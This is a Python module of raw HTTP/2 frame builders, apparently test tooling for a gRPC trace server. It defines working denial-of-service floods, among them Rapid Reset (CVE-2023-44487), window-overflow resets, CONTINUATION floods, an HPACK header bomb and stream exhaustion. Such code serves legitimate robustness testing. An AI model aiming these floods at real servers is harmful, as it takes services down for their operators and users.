"""What a client over HTTP/2 can do, well or badly, frame by frame."""

import contextlib
import socket
import struct
import time
from collections.abc import Iterator
from contextlib import contextmanager

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from vllmd.traces.forward.senders import EXPORT
from vllmd.traces.frames import PREFACE

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", EXPORT),
    (":authority", "vllmd"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
_PIECE = 64 * 1024


def head(stream: int, block: bytes, *flags: str) -> bytes:
    """Return a HEADERS frame."""
    return written(HeadersFrame(stream, data=block), "END_HEADERS", *flags)


def data(stream: int, content: bytes, *flags: str) -> bytes:
    """Return a DATA frame."""
    return written(DataFrame(stream, data=content), *flags)


def written(frame: Frame, *flags: str) -> bytes:
    """Return a frame as bytes."""
    for flag in flags:
        frame.flags.add(flag)
    return bytes(frame.serialize())


def settings(values: dict[int, int]) -> bytes:
    """Return a SETTINGS frame, of settings too that hyperframe does not know."""
    body = b"".join(struct.pack(">HL", code, value) for code, value in values.items())
    return len(body).to_bytes(3) + b"\x04\0\0\0\0\0" + body


def message(body: bytes, *, packed: bool = False) -> bytes:
    """Return a message of gRPC."""
    return struct.pack(">BI", packed, len(body)) + body


def plain_headers(headers: list[tuple[str, str]] | None = None) -> bytes:
    """Return a block of headers that needs no table, so that it can be sent for any stream."""
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return bytes(encoder.encode(headers or HEADERS))


class Raw:
    """A connection that sends whatever it is told to."""

    def __init__(self, address: tuple[str, int], timeout_s: float = 10.0) -> None:
        self.socket = socket.create_connection(address, timeout=timeout_s)
        self.closed = False
        self._received = bytearray()

    def greet(self) -> "Raw":
        """Send the preface and settings."""
        self.send(PREFACE + SettingsFrame(0).serialize())
        return self

    def send(self, content: bytes) -> bool:
        """Send it, and read what comes meanwhile; tells whether the server still takes it."""
        view = memoryview(content)
        try:
            while view and not self.closed:
                sent = self.socket.send(view[:_PIECE])
                view = view[sent:]
                self.read_now()
        except OSError:
            self.closed = True
        return not self.closed

    def read_now(self) -> None:
        """Read what is there."""
        timeout = self.socket.gettimeout()
        self.socket.setblocking(False)
        try:
            while True:
                got = self.socket.recv(_PIECE)
                self._received += got
                if not got:
                    self.closed = True
                    return
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        finally:
            self.socket.settimeout(timeout)

    def wait_closed(self, within_s: float = 10.0) -> bool:
        """Read until the server closes it; tells whether it did."""
        until = time.monotonic() + within_s
        while not self.closed and time.monotonic() < until:
            try:
                self.socket.settimeout(max(0.01, until - time.monotonic()))
                got = self.socket.recv(_PIECE)
                self._received += got
                self.closed = not got
            except OSError as error:
                self.closed = not isinstance(error, TimeoutError)
        return self.closed

    def wait_frame(self, kind: type[Frame], within_s: float = 10.0) -> Frame | None:
        """Read until such a frame came; None if none did."""
        until = time.monotonic() + within_s
        while time.monotonic() < until:
            for frame in self.frames():
                if isinstance(frame, kind):
                    return frame
            if self.closed:
                return None
            try:
                self.socket.settimeout(max(0.01, until - time.monotonic()))
                got = self.socket.recv(_PIECE)
                self._received += got
                self.closed = not got
            except OSError:
                self.closed = True
        return None

    def frames(self) -> Iterator[Frame]:
        """Yield the frames that came so far."""
        at = 0
        while len(self._received) - at >= 9:
            frame, size = Frame.parse_frame_header(memoryview(self._received[at : at + 9]))
            if len(self._received) - at < 9 + size:
                return
            frame.parse_body(memoryview(self._received[at + 9 : at + 9 + size]))
            yield frame
            at += 9 + size

    def frames_seen(self, kind: type[Frame]) -> int:
        """Return how many such frames came."""
        return sum(isinstance(frame, kind) for frame in self.frames())

    def goaway(self) -> int | None:
        """Return the code of the server's GOAWAY."""
        return next((f.error_code for f in self.frames() if isinstance(f, GoAwayFrame)), None)

    def close(self) -> None:
        """Close it."""
        self.socket.close()


@contextmanager
def raw(address: tuple[str, int]) -> Iterator[Raw]:
    """Open a connection that has greeted."""
    made = Raw(address).greet()
    try:
        yield made
    finally:
        made.close()


# --- floods: each sends up to so many frames, and returns how many were sent ----------------------


def rapid_reset(connection: Raw, count: int = 20_000) -> int:
    """Open streams and reset each at once. Source: CVE-2023-44487."""
    block = plain_headers()
    for number in range(count):
        stream = 1 + 2 * number
        frames = head(stream, block) + RstStreamFrame(stream, error_code=8).serialize()
        if not connection.send(frames):
            return number
    return count


def full_reset(connection: Raw, count: int = 20_000) -> int:
    """Send whole calls and reset each at once."""
    block, body = plain_headers(), message(b"")
    for number in range(count):
        stream = 1 + 2 * number
        frames = head(stream, block) + data(stream, body, "END_STREAM")
        if not connection.send(frames + RstStreamFrame(stream, error_code=8).serialize()):
            return number
    return count


def made_to_reset(connection: Raw, count: int = 20_000) -> int:
    """Make the server reset streams, by updates of a window that overflow. CVE-2025-8671."""
    block = plain_headers()
    for number in range(count):
        stream = 1 + 2 * number
        update = WindowUpdateFrame(stream, window_increment=2**31 - 1).serialize()
        if not connection.send(head(stream, block) + update + update):
            return number
    return count


def repeat(connection: Raw, frame: bytes, count: int) -> int:
    """Send one frame again and again."""
    for number in range(0, count, 1000):
        if not connection.send(frame * 1000):
            return number
    return count


SETTINGS = SettingsFrame(0, settings={3: 100}).serialize()
PING = PingFrame(0, b"12345678").serialize()
PRIORITY = PriorityFrame(1, depends_on=3).serialize()
WINDOW_UPDATE = WindowUpdateFrame(0, window_increment=1).serialize()
EMPTY_SETTINGS_TABLE = SettingsFrame(0, settings={1: 0}).serialize()


def empty_data(connection: Raw, count: int = 100_000) -> int:
    """Send empty data on an open stream."""
    connection.send(head(1, plain_headers()))
    return repeat(connection, data(1, b""), count)


def endless_headers(connection: Raw, count: int = 2000) -> int:
    """Send headers that never end, in continuations."""
    connection.send(written(HeadersFrame(1, data=b"\x00\x01a\x01b")))
    frame = ContinuationFrame(1, data=b"\x40\x01a\x7f\x80\x7e" + b"b" * 16_000).serialize()
    for number in range(count):
        if not connection.send(frame):
            return number
    return count


def header_bomb(connection: Raw) -> int:
    """Name one long header of the table a thousand times."""
    block = hpack.Encoder().encode([*HEADERS, ("x", "a" * 4000)]) + b"\xbe" * 12_000
    connection.send(head(1, bytes(block)))
    return 1


def window_overflow(connection: Raw) -> int:
    """Give more window than there may be."""
    connection.send(WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 5)
    return 5


def endless_streams(connection: Raw, count: int = 2000) -> int:
    """Open streams, and end none."""
    block = plain_headers()
    for number in range(count):
        if not connection.send(head(1 + 2 * number, block)):
            return number
    return count


def declared_only(connection: Raw, size: int, streams: int = 4) -> int:
    """Declare messages of so many bytes, and send nothing of them."""
    block = plain_headers()
    for number in range(streams):
        stream = 1 + 2 * number
        connection.send(head(stream, block) + data(stream, struct.pack(">BI", 0, size)))
    return streams


def half_sent(connection: Raw, size: int) -> int:
    """Send so many bytes of a message of 16 MiB, obeying the windows, and then nothing.

    Returns once the server has read them: it has answered a ping that was sent behind them.
    """
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    client.send_headers(1, HEADERS)
    connection.socket.sendall(client.data_to_send())
    left, first = size, struct.pack(">BI", 0, 16 * 1024 * 1024)
    with contextlib.suppress(h2.exceptions.ProtocolError):  # the server has ended the stream
        while left > 0 and not connection.closed:
            window = min(client.local_flow_control_window(1), client.max_outbound_frame_size, left)
            if window <= 0:
                got = connection.socket.recv(_PIECE)
                connection.closed = not got
                client.receive_data(got)
                continue
            piece = (first + bytes(window))[:window]
            first = b""
            client.send_data(1, piece)
            connection.socket.sendall(client.data_to_send())
            left -= window
        client.ping(b"all read")
        connection.socket.sendall(client.data_to_send())
        read = False
        while not (read or connection.closed):
            got = connection.socket.recv(_PIECE)
            connection.closed = not got
            events = client.receive_data(got)
            read = any(isinstance(event, h2.events.PingAckReceived) for event in events)
    return size - left
